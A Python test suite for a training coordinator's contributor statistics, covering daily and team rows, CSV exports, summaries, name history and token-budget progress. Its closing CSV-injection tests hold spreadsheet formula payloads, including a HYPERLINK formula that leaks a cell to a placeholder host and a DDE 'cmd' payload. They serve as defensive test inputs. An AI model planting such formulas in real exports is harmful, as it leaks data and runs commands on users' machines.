"""Contributors' stats: daily rows moved with the ledger (by contributor and by team, JSON and CSV),
a contributor's history, the daily summary, and a run's progress toward its token budget."""

from __future__ import annotations

import csv
import io
import threading
from datetime import date, timedelta

import pytest
from sqlalchemy import func, select, update

from coordinator import stats
from coordinator.models import DailyStat, Run, Worker, utcnow
from coordinator.queries import stats as stat_rows
from coordinator.queries import workers as worker_rows
from shared import protocol
from tests.conftest import API


def get(api, path: str, **params):
    resp = api.client.get(f"{API}/runs/t{path}", params=params)
    assert resp.status_code == 200, resp.text
    return resp


def deliver(api, make_delta, who: dict, n: int = 1) -> None:
    for i in range(n):
        lease = api.lease(who)
        api.accept(lease.lease_id, make_delta(lease, seed=i), who)


@pytest.fixture
def team_run(api, run, make_delta):
    """alice (two machines, teams blue and red), bob (blue), one anonymous worker; every delta merged."""
    first = api.client.post(f"{API}/runs/t/workers", json={"name": "alice", "team": "blue"}).json()
    alice = {"Authorization": f"Bearer {first['token']}"}
    laptop = api.register(name="Alice", team="blue", contributor_key=first["contributor_key"])
    bob, anon = api.register(name="bob", team="blue"), api.register()
    deliver(api, make_delta, alice, 2)
    deliver(api, make_delta, laptop)
    deliver(api, make_delta, bob)
    deliver(api, make_delta, anon)
    assert api.drain() == 5
    return run.inner.steps * run.inner.batch_size * run.model.context


def test_daily_rows_equal_the_ledger(api, team_run):
    tokens, today = team_run, utcnow().date().isoformat()
    rows = get(api, "/stats/daily").json()
    with api.db() as s:
        ledger = {name: (t, a, r, cr) for name, t, a, r, cr in s.execute(select(
            Worker.name, func.sum(Worker.tokens_trained), func.sum(Worker.deltas_accepted),
            func.sum(Worker.deltas_rejected), func.sum(Worker.credit)).group_by(Worker.name))}
    assert [(r["day"], r["name"], r["team"], r["workers"]) for r in rows][0][0] == today
    by_name = {r["name"]: r for r in rows}
    assert set(by_name) == {"alice", "bob", None}  # alice's two machines under one name, one team
    assert by_name["alice"]["workers"] == 2 and by_name["alice"]["tokens"] == 3 * tokens
    for name, row in by_name.items():
        t, a, r, cr = ledger[name]
        assert (row["tokens"], row["deltas_accepted"], row["deltas_rejected"]) == (t, a, r)
        assert row["credit"] == pytest.approx(cr) and cr > 0
    assert rows[0]["name"] == "alice" and [r["credit"] for r in rows] == sorted((r["credit"] for r in rows),
                                                                                reverse=True)  # most credit first
    teams = get(api, "/stats/daily", by="team").json()
    assert [(r["team"], r["name"], r["workers"], r["tokens"]) for r in teams] == [("blue", None, 3, 4 * tokens)]


def test_daily_csv_and_the_summary(api, team_run):
    resp = get(api, "/stats/daily", format="csv")
    assert resp.headers["content-type"].startswith("text/csv") and "max-age" in resp.headers["cache-control"]
    table = list(csv.DictReader(io.StringIO(resp.text)))
    assert list(table[0]) == stats.DAILY_COLUMNS
    assert sorted(r["name"] for r in table) == ["alice", "anonymous", "bob"]
    assert [r["team"] for r in table if r["name"] == "anonymous"] == [""]
    summary = get(api, "/stats/summary").json()
    assert summary["day"] == utcnow().date().isoformat()
    lines = {line["name"]: line for line in summary["lines"]}
    assert lines["alice"]["tokens_day"] == lines["alice"]["tokens_total"] == 3 * team_run
    tomorrow = (utcnow().date() + timedelta(days=1)).isoformat()
    later = {line["name"]: line for line in get(api, "/stats/summary", day=tomorrow).json()["lines"]}
    assert later["alice"]["tokens_day"] == 0 and later["alice"]["tokens_total"] == 3 * team_run
    text = get(api, "/stats/summary", format="csv", day=tomorrow).text
    assert text.splitlines()[0] == ",".join(stats.SUMMARY_COLUMNS)


def test_days_are_kept_apart_and_picked(api, team_run):
    with api.db() as s:
        alice_id = s.scalar(select(Worker.id).where(Worker.name == "alice"))
    earlier = utcnow().date() - timedelta(days=3)
    with api.coordinator.db.begin() as c:
        stat_rows.bump(c, alice_id, earlier, tokens=100, accepted=1, credit=50.0)
    rows = get(api, "/stats/daily").json()
    assert rows[0]["day"] == earlier.isoformat() and rows[0]["tokens"] == 100
    only = get(api, "/stats/daily", since=(earlier + timedelta(days=1)).isoformat()).json()
    assert all(r["day"] != earlier.isoformat() for r in only)
    assert get(api, "/stats/daily", until=earlier.isoformat()).json() == rows[:1]
    history = get(api, "/contributors/ALICE/history").json()  # found as registration compares names
    assert history["name"] == "alice" and history["teams"] == ["blue"]
    assert [d["day"] for d in history["days"]] == [earlier.isoformat(), utcnow().date().isoformat()]
    assert history["tokens"] == 100 + 3 * team_run and history["days"][1]["workers"] == 2


def test_bad_requests_are_refused(api, team_run):
    assert api.client.get(f"{API}/runs/t/stats/daily", params={"format": "xml"}).status_code == 422
    assert api.client.get(f"{API}/runs/t/stats/daily", params={"since": "yesterday"}).status_code == 422
    bad = api.client.get(f"{API}/runs/t/stats/daily", params={"since": "2026-02-02", "until": "2026-02-01"})
    assert bad.status_code == 422 and "after" in bad.json()["detail"]
    assert api.client.get(f"{API}/runs/nope/stats/daily").status_code == 404
    assert api.client.get(f"{API}/runs/t/contributors/nobody/history").status_code == 404
    assert api.client.get(f"{API}/runs/t/contributors/%E2%80%8B/history").status_code == 422


def test_rejections_and_revoked_credit_count_on_their_day(api, team_run):
    with api.db() as s:
        bob = s.scalar(select(Worker.id).where(Worker.name == "bob"))
        credit_before = s.scalar(select(Worker.credit).where(Worker.id == bob))
    with api.coordinator.db.begin() as c:
        worker_rows.count_rejected(c, bob)
        worker_rows.add_credit(c, bob, -credit_before)  # a spot-check takes it back
    (row,) = [r for r in get(api, "/stats/daily").json() if r["name"] == "bob"]
    assert row["deltas_rejected"] == 1 and row["credit"] == pytest.approx(0.0, abs=1e-6)


def test_concurrent_bumps_are_all_counted(api, run):
    """Many connections adding to one worker's row of one day at once (as several coordinator processes
    would): the upsert neither loses nor doubles a count."""
    api.register(name="grace")
    with api.db() as s:
        worker_id = s.scalar(select(Worker.id))
    day, threads, per_thread = date(2026, 1, 1), 6, 20
    start = threading.Barrier(threads)

    def bump() -> None:
        start.wait()
        for _ in range(per_thread):
            with api.coordinator.db.begin() as c:
                stat_rows.bump(c, worker_id, day, tokens=3, accepted=1, credit=0.5)

    pool = [threading.Thread(target=bump) for _ in range(threads)]
    for t in pool:
        t.start()
    for t in pool:
        t.join()
    with api.db() as s:
        row = s.execute(select(DailyStat.tokens, DailyStat.deltas_accepted, DailyStat.credit)).one()
    n = threads * per_thread
    assert tuple(row) == (3 * n, n, pytest.approx(0.5 * n))


def test_stats_survive_a_restart(open_api, run_config, make_delta, settings):
    with open_api(settings) as api:
        api.create_run(run_config())
        deliver(api, make_delta, api.register(name="heidi"))
        api.drain()
        before = get(api, "/stats/daily").json()
    with open_api(settings) as api:
        assert get(api, "/stats/daily").json() == before and before[0]["credit"] > 0


def test_progress_toward_the_token_budget(api, run, make_delta):
    tokens = run.inner.steps * run.inner.batch_size * run.model.context
    fresh = protocol.RunProgress.model_validate(get(api, "/progress").json())
    assert fresh.token_budget is None and fresh.fraction is None and fresh.eta_s is None
    with api.db() as s:
        s.execute(update(Run).values(token_budget=10 * tokens))
        s.commit()
    deliver(api, make_delta, api.register(name="ivan"), 2)
    p = protocol.RunProgress.model_validate(get(api, "/progress").json())
    assert (p.tokens_trained, p.token_budget, p.fraction) == (2 * tokens, 10 * tokens, pytest.approx(0.2))
    assert p.tokens_per_s == pytest.approx(2 * tokens / p.rate_window_s) and 0 < p.rate_window_s <= 3600
    assert p.eta_s == pytest.approx(8 * tokens / p.tokens_per_s)
    status, board = api.status(), get(api, "/dashboard").json()
    assert status["progress"]["fraction"] == board["progress"]["fraction"] == pytest.approx(0.2)


def test_progress_rule():
    p = stats.progress(state="active", tokens_done=50, token_budget=100, recent_tokens=10, window_s=5.0)
    assert (p.fraction, p.tokens_per_s, p.eta_s) == (0.5, 2.0, 25.0)
    assert stats.progress(state="paused", tokens_done=50, token_budget=100, recent_tokens=10, window_s=5).eta_s is None
    assert stats.progress(state="active", tokens_done=50, token_budget=100, recent_tokens=0, window_s=5).eta_s is None
    done = stats.progress(state="finished", tokens_done=120, token_budget=100, recent_tokens=0, window_s=5)
    assert (done.fraction, done.eta_s) == (1.0, 0.0)
    assert stats.progress(state="active", tokens_done=5, token_budget=None, recent_tokens=5, window_s=0).tokens_per_s \
        is None


def test_history_of_any_name(api, run, make_delta):
    """A name may hold a slash or a space: the history route finds it, escaped or not."""
    for name in ("ops/alice", "bob the builder"):
        deliver(api, make_delta, api.register(name=name))
    api.drain()
    for path, name in (("/contributors/ops%2Falice/history", "ops/alice"), ("/contributors/ops/alice/history",
                                                                           "ops/alice"),
                       ("/contributors/Bob%20The%20Builder/history", "bob the builder")):
        h = get(api, path).json()
        assert h["name"] == name and h["deltas_accepted"] == 1 and len(h["days"]) == 1


# -- CSV injection --------------------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_formula_names_and_teams_are_neutralised_in_every_csv(api, run):
    """A name or team beginning with `=`, `+`, `-` or `@` comes back prefixed with a single quote in the
    daily, by-team and summary CSVs (and quoted where CSV quotes), while numbers, a negative credit
    among them, stay numbers."""
    for i, formula in enumerate(FORMULAS):
        api.register(name=formula, team=FORMULAS[-1 - i])
    with api.db() as s:
        ids = s.scalars(select(Worker.id).order_by(Worker.id)).all()
    with api.coordinator.db.begin() as c:
        for worker_id in ids:
            stat_rows.bump(c, worker_id, utcnow().date(), tokens=10, accepted=1, credit=-1.5)  # credit revoked
    tables = {what: list(csv.reader(io.StringIO(get(api, path, format="csv", **params).text)))
              for what, path, params in (("daily", "/stats/daily", {}), ("team", "/stats/daily", {"by": "team"}),
                                         ("summary", "/stats/summary", {}))}
    for what, (header, *rows) in tables.items():
        assert len(rows) == len(FORMULAS), (what, rows)
        for row in rows:
            cells = dict(zip(header, row))
            for col in ("name", "team"):
                if col in cells:
                    assert cells[col][0] == "'" and cells[col][1:] in FORMULAS, (what, cells)
            assert float(cells["credit" if "credit" in cells else "credit_total"]) == -1.5  # a number, not text
    raw = get(api, "/stats/summary", format="csv").text
    assert "\n'=" not in raw and "\n\"'=HYPERLINK(\"\"http" in raw  # quoted as CSV quotes: "" inside


@pytest.mark.parametrize("text, cell", [("=1+2", "'=1+2"), ("+x", "'+x"), ("-x", "'-x"), ("@x", "'@x"),
                                        ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("'=x", "'=x"), ("", "")])
def test_the_owasp_rule(text, cell):
    assert stats.spreadsheet_safe(text) == cell
